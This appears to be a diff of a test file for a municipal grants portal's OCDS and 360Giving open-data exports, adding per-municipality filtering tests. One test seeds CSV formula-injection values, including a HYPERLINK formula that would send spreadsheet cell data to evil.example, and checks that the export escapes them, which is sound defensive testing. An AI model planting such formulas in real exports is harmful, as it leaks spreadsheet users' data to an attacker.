@@ -4,10 +4,14 @@ import { cancelCall } from "~/domains/calls/calls.server";
 import { createBudgetSetting, createDraftCall } from "../../../tests/factories-calls";
 import { ocdsPackageValidator, threeSixtyGivingPackageValidator } from "../../../tests/standards/validators";
 import { createFundedProcess } from "../../../tests/factories-open-data";
+import { forgetPublisher } from "~/domains/municipalities/publisher.server";
+import { getEnv } from "~/utils/env.server";
 import { buildOcdsReleasePackage } from "./ocds.server";
+import { threeSixtyGivingPrefix } from "./open-data-rules";
 import { buildThreeSixtyGivingCsv, buildThreeSixtyGivingPackage } from "./threesixty-giving.server";
 
-const options = { publicUrl: "https://portal.karakol.kg", ocidPrefix: "ocds-kgkrk1", prefix: "360G-kgkrk1", now: new Date("2026-07-01T00:00:00Z") };
+const options = { publicUrl: "https://portal.karakol.kg", ocidPrefix: "ocds-kgkrk1", now: new Date("2026-07-01T00:00:00Z") };
+const get = (path: string) => ({ request: new Request(`https://portal.karakol.kg${path}`), params: {}, context: {} }) as never;
 
 describe("open data exports", () => {
   it("publishes a valid OCDS 1.1.5 release package with the whole contracting process", async () => {
@@ -89,14 +93,13 @@ describe("open data exports", () => {
     await prisma.proposal.update({ where: { id: award.proposalId }, data: { title: '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', summary: "+1+1" } });
     await prisma.organization.update({ where: { id: winner.id }, data: { nameRu: "@SUM(1,2)" } });
     const { loader } = await import("~/routes/open-data.360giving[.]csv");
-    const response = await loader();
+    const response = await loader(get("/open-data/360giving.csv"));
     expect(response.headers.get("Content-Type")).toContain("text/csv");
     const bytes = Buffer.from(await response.arrayBuffer());
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const rows: string[][] = parse(bytes.subarray(3).toString("utf8"));
     const header = rows[0]!;
-    const { openDataOptions } = await import("./open-data-config.server");
-    const row = rows.find((r) => r[0] === `${openDataOptions().prefix}-${award.reference}`)!;
+    const row = rows.find((r) => r[0] === `${threeSixtyGivingPrefix(getEnv().OCID_PREFIX)}-${award.reference}`)!;
     const cell = (name: string) => row[header.indexOf(name)];
     expect(cell("Title")).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Подробнее")`);
     expect(cell("Description")).toBe("'+1+1");
@@ -104,5 +107,38 @@ describe("open data exports", () => {
     // No cell of the file starts with a formula character any more.
     expect(rows.flat().filter((c) => /^[=+@\t\r]/.test(c) || /^-(?!\d)/.test(c))).toEqual([]);
   });
-});
 
+  it("publishes each municipality's releases under its own prefix, and one municipality's file on its own", async () => {
+    const karakol = await createFundedProcess();
+    const osh = await createFundedProcess();
+    const { prisma } = await import("~/utils/db.server");
+    await prisma.municipality.update({ where: { id: osh.municipality.id }, data: { ocidPrefix: "ocds-kgosh1", nameRu: "Мэрия города Ош" } });
+    forgetPublisher();
+    const { loader: ocds } = await import("~/routes/open-data.ocds[.]json");
+    const { loader: giving } = await import("~/routes/open-data.360giving[.]json");
+    const { loader: givingCsv } = await import("~/routes/open-data.360giving[.]csv");
+
+    const all = await (await ocds(get("/open-data/ocds.json"))).json();
+    const ocidOf = (reference: string) => all.releases.find((r: { tender: { id: string } }) => r.tender.id === reference)?.ocid;
+    expect(ocidOf(karakol.call.reference)).toBe(`${getEnv().OCID_PREFIX}-${karakol.call.reference}`);
+    expect(ocidOf(osh.call.reference)).toBe(`ocds-kgosh1-${osh.call.reference}`);
+
+    const oshOnly = await (await ocds(get(`/open-data/ocds.json?municipality=${osh.municipality.slug}`))).json();
+    expect(ocdsPackageValidator()(oshOnly)).toBe(true);
+    expect(oshOnly.releases.map((r: { tender: { id: string } }) => r.tender.id)).toEqual([osh.call.reference]);
+    expect(oshOnly.publisher.name).toBe("Мэрия города Ош");
+    expect(oshOnly.uri).toContain(`?municipality=${osh.municipality.slug}`);
+
+    const grants = await (await giving(get(`/open-data/360giving.json?municipality=${osh.municipality.slug}`))).json();
+    expect(threeSixtyGivingPackageValidator()(grants)).toBe(true);
+    expect(grants.grants.map((g: { id: string }) => g.id)).toEqual([`360G-kgosh1-${osh.award.reference}`]);
+    const csv = await givingCsv(get(`/open-data/360giving.csv?municipality=${karakol.municipality.slug}`));
+    expect(csv.headers.get("Content-Disposition")).toContain(`360giving-grants-${karakol.municipality.slug}.csv`);
+    expect(await csv.text()).not.toContain(osh.award.reference);
+
+    // A mistyped municipality is not silently every municipality's data.
+    const unknown = await ocds(get("/open-data/ocds.json?municipality=no-such-place")).catch((error: unknown) => error);
+    expect(unknown).toBeInstanceOf(Response);
+    expect((unknown as Response).status).toBe(404);
+  });
+});
